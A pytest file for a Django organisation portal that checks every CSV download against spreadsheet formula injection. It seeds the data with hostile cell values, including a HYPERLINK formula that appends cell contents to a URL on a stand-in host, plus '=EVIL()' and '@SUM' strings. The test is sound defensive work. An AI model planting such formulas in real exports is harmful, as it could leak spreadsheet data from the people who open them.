"""Every CSV download, with the organization's text at its most hostile: no cell a spreadsheet would run.

The data holds formula-looking text wherever an organization writes text: a person's
name, a group's, an attribute's name and values, a rejected cell of an import and its
header. Each CSV the portal offers is downloaded and read back: no cell may start with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return, unless it is a number.
"""

import csv
import io

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone

from bulk_actions import selectors as bulk_selectors
from bulk_actions import services as bulk_services
from bulk_actions.models import BulkJob
from exports import services as export_services
from exports.models import ExportJob
from groups.models import GroupMembership
from imports import services as import_services
from imports.formulas import FORMULA_STARTS
from imports.models import ImportJob
from kaizala_portal import policy
from users.models import OrganizationUser

from .factories import AttributeDefinitionFactory, GroupFactory, GroupMembershipFactory, OrganizationUserFactory

HOSTILE = ['=HYPERLINK("http://x/?"&A2,"y")', "+1 (call me)", "-2+3", "@SUM(A1)", "\tTabbed", "\rReturned"]
CSV_DOWNLOADS = [
    "imports:template",
    "imports:errors",
    "exports:download",
    "exports:errors",
    "audit:download",
    "bulk_actions:report",
    "reports:activity_csv",
    "reports:attributes_csv",
    "reports:jobs_csv",
    "reports:members_csv",
    "reports:publications_csv",
    "groups:user_mapping_template",
    "groups:parent_mapping_template",
    "groups:export_user_mapping",
    "groups:export_parent_mapping",
]


@pytest.fixture
def hostile_organization(organization, org_admin):
    text = AttributeDefinitionFactory(organization=organization, name=HOSTILE[0])
    AttributeDefinitionFactory(organization=organization, name="@Level", value_type="number")
    group = GroupFactory(organization=organization, name=HOSTILE[3])
    # Named by its path in the Bulk Upload Users files: a formula above it, another under it.
    GroupFactory(
        organization=organization, name=HOSTILE[1], parent=GroupFactory(organization=organization, name=HOSTILE[0])
    )
    GroupFactory(organization=organization, name=HOSTILE[4], parent=group)
    GroupMembershipFactory(group=group, user=org_admin, role=GroupMembership.Role.ADMIN)
    # Named by the organization like a formula too: the audit log's "Who did it" starts with it.
    OrganizationUser.objects.filter(organization=organization, user=org_admin).update(name=HOSTILE[2])
    for hostile in HOSTILE:
        person = OrganizationUserFactory(organization=organization, name=hostile, attribute_values={text.key: hostile})
        GroupMembershipFactory(group=group, user=person.user)
    job = ImportJob(organization=organization, uploaded_by=org_admin, file_name="=bad.csv", token="csv-walk")
    job.file.save("x.csv", ContentFile(f'Name,Phone Number,=EVIL()\n"{HOSTILE[0]}",=EVIL(),-1\n'.encode()), save=False)
    job.save()
    import_services.run_import(job_id=job.pk, run_id="csv-walk")
    export = export_services.create_export_job(organization=organization, requested_by=org_admin, scope="")
    ExportJob.objects.filter(pk=export.pk).update(queued_at=timezone.now())
    export_services.run_export(job_id=export.pk, run_id="csv-walk")
    # Everyone added to the group again: each is skipped, and the report names them all.
    bulk = bulk_services.start_bulk_job(
        viewer=policy.viewer_for(org_admin, organization),
        kind=BulkJob.Kind.ADD_TO_GROUP,
        selection=bulk_selectors.Selection(scope="", chosen_ids=()),
        group=group,
    )
    assert bulk.skipped_count == len(HOSTILE) + 1
    # A failed export's error log: the requester's number (a "+") starts its reason.
    failed = export_services.create_export_job(organization=organization, requested_by=org_admin, scope="")
    ExportJob.objects.filter(pk=failed.pk).update(queued_at=timezone.now())
    OrganizationUser.objects.filter(organization=organization, user=org_admin).update(role=OrganizationUser.Role.MEMBER)
    export_services.run_export(job_id=failed.pk, run_id="csv-walk")
    OrganizationUser.objects.filter(organization=organization, user=org_admin).update(
        role=OrganizationUser.Role.ORG_ADMIN
    )
    return {"job_id": job.pk, "export_id": export.pk, "bulk_id": bulk.pk, "failed_export_id": failed.pk}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", CSV_DOWNLOADS)
def test_no_cell_of_any_csv_download_would_run_as_a_formula(
    client_for, organization, org_admin, hostile_organization, name
):
    kwargs = {"org_slug": organization.slug}
    if name == "imports:errors":
        kwargs["job_id"] = hostile_organization["job_id"]
    if name == "exports:download":
        kwargs["job_id"] = hostile_organization["export_id"]
    if name == "bulk_actions:report":
        kwargs["job_id"] = hostile_organization["bulk_id"]
    if name == "exports:errors":
        kwargs["job_id"] = hostile_organization["failed_export_id"]
    response = client_for(org_admin).get(reverse(name, kwargs=kwargs), follow=True)
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) > 1
    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert live == [], f"{name}: {live}"
